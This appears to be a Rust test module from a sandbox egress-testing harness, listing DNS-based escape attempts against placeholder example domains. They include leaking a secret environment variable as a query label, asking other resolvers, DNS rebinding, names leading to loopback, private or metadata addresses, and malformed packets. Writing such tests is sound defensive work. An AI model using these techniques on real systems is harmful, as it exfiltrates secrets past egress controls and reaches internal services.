//! Names: no question carries anything out, and no name leads where it may not.
//!
//! On the bare host the same questions go to a name server of ours, which hears every byte of them.

use crate::attack::{Attack, Permitted, layer};
use crate::scene::{Lost, Outcome, Scene};
use crate::stage::{Shot, Stage};
use crate::tongue::{dial, exchange, question, verdict};
use crate::town::{SHARED, VARIABLE};
use std::io::{Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream, UdpSocket};
use std::time::Duration;

const CLASS: &str = "names";
pub(super) const UNHEARD: &[(&str, &str)] = &[
    ("asked", layer::EGRESS),
    // The connection that there was is used again, wherever the name leads by then.
    ("said", layer::EGRESS),
    ("no such name", layer::EGRESS),
    ("refused", layer::EGRESS),
    ("ECONNRESET", layer::EGRESS),
    ("ECONNREFUSED", layer::NETWORK),
    ("ENETUNREACH", layer::NETWORK),
];

/// Kinds of records.
const A: u16 = 1;
const NULL: u16 = 10;
const TXT: u16 = 16;
const HTTPS: u16 = 65;
const TRANSFER: u16 = 252;
const ANY: u16 = 255;

/// A question that a name server outside hears.
const fn asks(name: &'static str, act: fn(&Scene) -> Outcome) -> Attack {
    let heard = |stage: &Stage, shot: &Shot| stage.ears(shot, &["names"], &shot.token);
    Attack::new(CLASS, name, act, UNHEARD).judged(heard).in_town()
}

/// A name under an allowed pattern that leads where no name may lead.
const fn leads(name: &'static str, first: &'static str) -> Attack {
    Attack::new(CLASS, name, follow, UNHEARD).word(first).judged(arrived).in_town()
}

pub(crate) const TABLE: &[Attack] = &[
    asks("names.address", |scene| label(scene, A)),
    asks("names.text", |scene| label(scene, TXT)),
    asks("names.null", |scene| label(scene, NULL)),
    asks("names.https", |scene| label(scene, HTTPS)),
    asks("names.any", |scene| label(scene, ANY)),
    asks("names.transfer", |scene| label(scene, TRANSFER)),
    asks("names.unknown-kind", |scene| label(scene, 65_280)),
    asks("names.long-labels", |scene| {
        let long = format!("{:a<63}", scene.token()?);
        ask(&question(&[long.as_bytes(); 3], TXT))
    }),
    asks("names.mixed-case", |scene| {
        ask(&question(&[scene.token()?.to_uppercase().as_bytes(), b"wILD", b"eXAMPLE"], TXT))
    }),
    asks("names.underscore", |scene| under(scene, b"_dns", TXT)),
    asks("names.nul", |scene| under(scene, b"a\0b", A)),
    asks("names.dot-in-label", |scene| under(scene, b"a.b", A)),
    asks("names.raw-bytes", |scene| under(scene, b"\xff\xfe", TXT)),
    asks("names.under-a-pattern", |scene| {
        ask(&question(&[scene.token()?.as_bytes(), b"wild", b"example"], TXT))
    }),
    asks("names.second-question", |scene| {
        let mut both = question(&[b"open", b"example"], A);
        set(&mut both, 5, 2);
        both.extend(question(&[scene.token()?.as_bytes(), b"example"], A).split_off(12));
        ask(&both)
    }),
    asks("names.behind-the-question", |scene| {
        ask(&[&question(&[b"open", b"example"], A), scene.token()?.as_bytes()].concat())
    }),
    asks("names.in-an-option", |scene| {
        let mut asked = question(&[b"open", b"example"], A);
        set(&mut asked, 11, 1);
        let token = scene.token()?.as_bytes();
        let length = token.len() as u8;
        // No name, the kind OPT, and one option.
        asked.extend([0, 0, 41, 16, 0, 0, 0, 0, 0, 0, length + 4, 0xfd, 0xe9, 0, length]);
        ask(&[&asked, token].concat())
    }),
    asks("names.other-class", |scene| {
        let mut asked = question(&[scene.token()?.as_bytes(), b"example"], TXT);
        if let Some(last) = asked.last_mut() {
            *last = 3;
        }
        ask(&asked)
    }),
    asks("names.update", |scene| {
        let mut asked = question(&[scene.token()?.as_bytes(), b"example"], 6);
        set(&mut asked, 2, 5 << 3);
        ask(&asked)
    }),
    asks("names.an-answer", |scene| {
        let mut asked = question(&[scene.token()?.as_bytes(), b"example"], A);
        set(&mut asked, 2, 0x81);
        ask(&asked)
    }),
    asks("names.over-tcp", |scene| {
        let asked = question(&[scene.token()?.as_bytes(), b"example"], TXT);
        ask_over_tcp(server()?, &asked)
    }),
    asks("names.by-the-library", |scene| {
        dial(&format!("{}.denied.example", scene.token()?), 80)?;
        Ok("asked".into())
    }),
    asks("names.secret-as-label", |scene| {
        let secret = std::env::var(VARIABLE).unwrap_or_default();
        ask(&question(&[scene.token()?.as_bytes(), secret.as_bytes(), b"example"], TXT))
    }),
    asks("names.other-server", |scene| {
        let asked = question(&[scene.token()?.as_bytes(), b"example"], TXT);
        let socket = UdpSocket::bind("0.0.0.0:0")?;
        socket.send_to(&asked, (SHARED, 53))?;
        Ok("asked".into())
    }),
    asks("names.other-server-over-tcp", |scene| {
        let asked = question(&[scene.token()?.as_bytes(), b"example"], TXT);
        ask_over_tcp((IpAddr::V4(SHARED), 53).into(), &asked)
    }),
    asks("names.connected-under-a-pattern", |scene| {
        let mut stream = dial(&format!("{}.wild.example", scene.token()?), 80)?;
        verdict(&exchange(&mut stream, b"GET / HTTP/1.1\r\nHost: x.wild.example\r\n\r\n")?)
    })
    .permitted(Permitted::Everywhere(
        "a name that was allowed is looked up when something connects to it, and it is told as much",
    )),
    leads("names.to-loopback", "loopback"),
    leads("names.to-any-address", "zero"),
    leads("names.to-own-address", "own"),
    leads("names.to-private", "private"),
    leads("names.to-metadata", "metadata"),
    leads("names.by-alias-to-private", "inward"),
    leads("names.by-alias-to-denied", "alias").permitted(Permitted::Everywhere(
        "who holds an allowed name says where it leads; the request still names the allowed host",
    )),
    Attack::new(CLASS, "names.rebinding", |scene| rebind(scene, |_| Ok(())), UNHEARD).judged(arrived).in_town(),
    Attack::new(CLASS, "names.allowed-is-reached", follow, UNHEARD)
        .word("plain")
        .judged(|stage, shot| stage.ears(shot, &["shared"], &shot.token))
        .permitted(Permitted::Required)
        .in_town(),
];

/// Whether something arrived at an address that no name may lead to.
pub(super) fn arrived(stage: &Stage, shot: &Shot) -> Option<String> {
    stage.ears(shot, &["house", "other", "private", "metadata"], &shot.token)
}

/// The name server that this computer is told to ask.
fn server() -> Result<SocketAddr, Lost> {
    let settings = std::fs::read_to_string("/etc/resolv.conf")?;
    let server = settings.lines().find_map(|line| line.strip_prefix("nameserver "));
    let address = server.and_then(|text| text.trim().parse::<IpAddr>().ok());
    address.map(|address| (address, 53).into()).ok_or_else(|| Lost::new("no name server"))
}

/// Asks over UDP, and waits a little for whatever is answered.
fn ask(asked: &[u8]) -> Outcome {
    let socket = UdpSocket::bind("0.0.0.0:0")?;
    socket.set_read_timeout(Some(Duration::from_millis(100)))?;
    socket.send_to(asked, server()?)?;
    cowork_sys::ignore(socket.recv(&mut [0; 512]));
    Err(Lost::new("asked"))
}

fn ask_over_tcp(server: SocketAddr, asked: &[u8]) -> Outcome {
    let mut stream = TcpStream::connect_timeout(&server, Duration::from_secs(2))?;
    stream.set_read_timeout(Some(Duration::from_millis(200)))?;
    stream.write_all(&[&(asked.len() as u16).to_be_bytes(), asked].concat())?;
    cowork_sys::ignore(stream.read(&mut [0; 512]));
    Err(Lost::new("asked"))
}

/// Changes a byte of a question's head.
fn set(asked: &mut [u8], place: usize, byte: u8) {
    if let Some(there) = asked.get_mut(place) {
        *there = byte;
    }
}

fn label(scene: &Scene, kind: u16) -> Outcome {
    ask(&question(&[scene.token()?.as_bytes(), b"denied", b"example"], kind))
}

fn under(scene: &Scene, label: &[u8], kind: u16) -> Outcome {
    ask(&question(&[label, scene.token()?.as_bytes(), b"wild", b"example"], kind))
}

/// Connects to a name, and says the token there.
fn follow(scene: &Scene) -> Outcome {
    say(&format!("{}-{}.wild.example", scene.word, scene.token()?), scene)
}

fn say(name: &str, scene: &Scene) -> Outcome {
    let mut stream = dial(name, 80)?;
    let text = format!("GET /v1/{} HTTP/1.1\r\nHost: {name}\r\n\r\n", scene.token()?);
    verdict(&exchange(&mut stream, text.as_bytes())?)
}

/// Asks for the address of a name under an allowed pattern.
pub(super) fn want(first: &str) -> Result<(), Lost> {
    let asked = question(&[first.as_bytes(), b"wild", b"example"], A);
    let socket = UdpSocket::bind("0.0.0.0:0")?;
    socket.set_read_timeout(Some(Duration::from_secs(1)))?;
    socket.send_to(&asked, server()?)?;
    // Whether it is answered does not matter: only so much is asked at a time.
    cowork_sys::ignore(socket.recv(&mut [0; 512]));
    Ok(())
}

/// A name that leads elsewhere from the second time on. Only what is said then counts; something is
/// done before.
pub(super) fn rebind(scene: &Scene, meanwhile: fn(&Scene) -> Result<(), Lost>) -> Outcome {
    let name = format!("rebind-{}.wild.example", scene.token()?);
    drop(dial(&name, 80)?);
    meanwhile(scene)?;
    for _ in 0..3 {
        if let Ok(mut stream) = dial(&name, 80) {
            let text = format!("GET /{} HTTP/1.1\r\nHost: {name}\r\n\r\n", scene.token()?);
            verdict(&exchange(&mut stream, text.as_bytes())?)?;
        }
    }
    Ok("said".into())
}
